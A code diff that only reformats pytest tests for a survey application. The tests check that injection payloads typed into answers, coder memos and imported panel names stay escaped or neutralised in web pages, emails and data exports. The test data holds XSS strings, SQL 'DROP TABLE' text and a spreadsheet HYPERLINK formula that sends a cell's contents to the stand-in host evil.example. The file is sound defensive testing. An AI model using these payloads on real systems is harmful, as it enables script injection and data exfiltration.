@@ -53,7 +53,11 @@ def _inert_html(page: str, where: str) -> None:
         if any(a in payload for a in ACTIVE):
             assert payload not in page, f"{where}: {payload!r} unescaped"
     lowered = page.lower()
-    assert "<script>alert" not in lowered and "<img src=x" not in lowered and "<svg/onload" not in lowered, where
+    assert (
+        "<script>alert" not in lowered
+        and "<img src=x" not in lowered
+        and "<svg/onload" not in lowered
+    ), where
 
 
 @pytest.fixture
@@ -69,28 +73,39 @@ def answered(app):
         page = r.post("fritekst", {"suksess_tekst": payload}, action="submit")
         assert page.status_code == 200, page.get_data(as_text=True)[:400]
     with app.app_context():
-        stored = db.session.scalars(sa.select(Answer.value_text).where(Answer.item_code == "suksess_tekst")).all()
-    assert sorted(stored) == sorted(p.strip() for p in PAYLOADS)  # stored exactly as typed, nothing lost
+        stored = db.session.scalars(
+            sa.select(Answer.value_text).where(Answer.item_code == "suksess_tekst")
+        ).all()
+    assert sorted(stored) == sorted(
+        p.strip() for p in PAYLOADS
+    )  # stored exactly as typed, nothing lost
     return links
 
 
 def test_respondent_page_shows_refused_payloads_escaped_and_keeps_them(app, answered):
     """Too long: the page comes back with the error and what was typed, escaped."""
     with app.app_context():
-        link = make_link(db.session.scalar(sa.select(Answer.response_id).limit(1)) and answered[0].wave_id)
+        link = make_link(
+            db.session.scalar(sa.select(Answer.response_id).limit(1)) and answered[0].wave_id
+        )
     r = Respondent(app.test_client(), link)
     r.open()
     r.open("/side/fritekst")
     typed = " ".join(PAYLOADS) + " " + "x" * 2000
     page = r.post("fritekst", {"suksess_tekst": typed}, action="submit").get_data(as_text=True)
     _inert_html(page, "respondent page")
-    assert html.escape(PAYLOADS[0], quote=False) in page or "&lt;script&gt;alert(&#39;xss&#39;)" in page
+    assert (
+        html.escape(PAYLOADS[0], quote=False) in page
+        or "&lt;script&gt;alert(&#39;xss&#39;)" in page
+    )
 
 
 def test_coding_screen_and_qdpx(app, client, users, answered):
     login(client, "researcher")
     with app.app_context():
-        ids = db.session.scalars(sa.select(Answer.id).where(Answer.item_code == "suksess_tekst")).all()
+        ids = db.session.scalars(
+            sa.select(Answer.id).where(Answer.item_code == "suksess_tekst")
+        ).all()
     for answer_id in ids:
         page = client.get(f"/coding/answer/{answer_id}")
         assert page.status_code == 200
@@ -107,8 +122,12 @@ def test_coding_screen_and_qdpx(app, client, users, answered):
 def test_access_report_and_person_page(app, client, users, answered):
     login(client, "evaluator")
     with app.app_context():
-        panel_id = db.session.scalar(sa.select(Person.panel_id).where(Person.id == answered[0].person_id))
-    _inert_html(client.get(f"/console/panel/person/{panel_id}").get_data(as_text=True), "person page")
+        panel_id = db.session.scalar(
+            sa.select(Person.panel_id).where(Person.id == answered[0].person_id)
+        )
+    _inert_html(
+        client.get(f"/console/panel/person/{panel_id}").get_data(as_text=True), "person page"
+    )
     bundle = client.get(f"/console/panel/person/{panel_id}/access.zip")
     with zipfile.ZipFile(io.BytesIO(bundle.data)) as zf:
         page = zf.read(f"{panel_id}.html").decode("utf-8")
@@ -122,10 +141,21 @@ def test_every_export_format(app, answered, tmp_path):
     from exports.helpers import build
 
     out = tmp_path / "export"
-    manifest = build(app, out, free_text=True, formats=("csv", "xlsx", "sav", "dta", "parquet"),
-                     layouts=("wide", "waves", "long"))
+    manifest = build(
+        app,
+        out,
+        free_text=True,
+        formats=("csv", "xlsx", "sav", "dta", "parquet"),
+        layouts=("wide", "waves", "long"),
+    )
     names = {f["file"] for f in manifest["files"]}
-    assert {"dekom_wide.csv", "dekom_wide.xlsx", "dekom_wide.sav", "dekom_wide.dta", "dekom_wide.parquet"} <= names
+    assert {
+        "dekom_wide.csv",
+        "dekom_wide.xlsx",
+        "dekom_wide.sav",
+        "dekom_wide.dta",
+        "dekom_wide.parquet",
+    } <= names
     cells = []
     for path in out.glob("*.csv"):
         for row in csv.reader(open(path, encoding="utf-8", newline="")):
@@ -136,16 +166,23 @@ def test_every_export_format(app, answered, tmp_path):
         for sheet in load_workbook(path, read_only=True).worksheets:
             for row in sheet.iter_rows(values_only=True):
                 cells += [c for c in row if isinstance(c, str)]
-    texts = [c for c in cells if "alert" in c or "SUM" in c or "1+2" in c or "HYPERLINK" in c or "DROP" in c]
+    texts = [
+        c
+        for c in cells
+        if "alert" in c or "SUM" in c or "1+2" in c or "HYPERLINK" in c or "DROP" in c
+    ]
     assert texts, "the free text is in the CSV and Excel files"
     for cell in cells:
         assert not cell.startswith(FORMULA), f"formula not neutralised: {cell!r}"
-    assert "'＝1+2" in cells and "'=HYPERLINK(\"http://evil.example/?\"&A1,\"klikk\")" in cells
+    assert "'＝1+2" in cells and '\'=HYPERLINK("http://evil.example/?"&A1,"klikk")' in cells
     import pandas as pd
     import pyreadstat
 
-    for reader in (lambda p: pd.read_parquet(p), lambda p: pyreadstat.read_sav(str(p))[0],
-                   lambda p: pyreadstat.read_dta(str(p))[0]):
+    for reader in (
+        lambda p: pd.read_parquet(p),
+        lambda p: pyreadstat.read_sav(str(p))[0],
+        lambda p: pyreadstat.read_dta(str(p))[0],
+    ):
         for path in sorted(out.glob("dekom_wide.*")):
             if path.suffix not in (".parquet", ".sav", ".dta"):
                 continue
@@ -153,24 +190,40 @@ def test_every_export_format(app, answered, tmp_path):
                 frame = reader(path)
             except Exception:  # noqa: BLE001 - each reader takes its own format only
                 continue
-            values = {str(v) for col in frame.columns if not pd.api.types.is_numeric_dtype(frame[col]) for v in frame[col]}
+            values = {
+                str(v)
+                for col in frame.columns
+                if not pd.api.types.is_numeric_dtype(frame[col])
+                for v in frame[col]
+            }
             assert any("DROP TABLE" in v for v in values), path.name
 
 
-def test_panel_import_payload_names_are_inert_in_console_pages_and_mails(app, client, users, instrument):
+def test_panel_import_payload_names_are_inert_in_console_pages_and_mails(
+    app, client, users, instrument
+):
     head = "navn;e-post;rolle;organisasjon;fylke;kompetansenettverk\n"
-    rows = "".join(f'"{p.replace(chr(34), chr(34) * 2)}";p{i}@x.no;skoleleder;"{p.replace(chr(34), chr(34) * 2)}";Oslo;Nett\n'
-                   for i, p in enumerate(PAYLOADS) if "\t" not in p)
+    rows = "".join(
+        f'"{p.replace(chr(34), chr(34) * 2)}";p{i}@x.no;skoleleder;"{p.replace(chr(34), chr(34) * 2)}";Oslo;Nett\n'
+        for i, p in enumerate(PAYLOADS)
+        if "\t" not in p
+    )
     login(client, "evaluator")
-    preview = client.post("/console/panel/import", data={"file": (io.BytesIO((head + rows).encode()), "p.csv")},
-                          content_type="multipart/form-data", follow_redirects=True)
+    preview = client.post(
+        "/console/panel/import",
+        data={"file": (io.BytesIO((head + rows).encode()), "p.csv")},
+        content_type="multipart/form-data",
+        follow_redirects=True,
+    )
     _inert_html(preview.get_data(as_text=True), "import preview")
     with app.app_context():
         parsed = parse_panel("p.csv", (head + rows).encode())
         assert not parsed.problems, parsed.problems
         apply_plan(parsed)
         db.session.commit()
-        assert db.session.scalar(sa.select(sa.func.count()).select_from(Contact)) == len(parsed.rows)
+        assert db.session.scalar(sa.select(sa.func.count()).select_from(Contact)) == len(
+            parsed.rows
+        )
         from console.conftest import make_wave as console_wave
 
         wave = console_wave(instrument, status="open")
@@ -182,16 +235,24 @@ def test_panel_import_payload_names_are_inert_in_console_pages_and_mails(app, cl
             _inert_html(mail_html, "invitation mail")
         wave_id = wave.id
     _inert_html(client.get("/console/panel").get_data(as_text=True), "panel page")
-    _inert_html(client.get(f"/console/dashboard/{wave_id}/non-responders").get_data(as_text=True), "non-responders")
+    _inert_html(
+        client.get(f"/console/dashboard/{wave_id}/non-responders").get_data(as_text=True),
+        "non-responders",
+    )
 
 
 def test_coder_memos_are_inert_on_the_coding_screen(app, client, users, answered):
     login(client, "researcher")
     with app.app_context():
-        answer_id = db.session.scalar(sa.select(Answer.id).where(Answer.item_code == "suksess_tekst").limit(1))
+        answer_id = db.session.scalar(
+            sa.select(Answer.id).where(Answer.item_code == "suksess_tekst").limit(1)
+        )
     for payload in PAYLOADS:
-        saved = client.post(f"/coding/answer/{answer_id}", data={"memo": payload, "action": "stay"},
-                            follow_redirects=True)
+        saved = client.post(
+            f"/coding/answer/{answer_id}",
+            data={"memo": payload, "action": "stay"},
+            follow_redirects=True,
+        )
         assert saved.status_code == 200
         _inert_html(saved.get_data(as_text=True), "coding screen memo")
     with app.app_context():
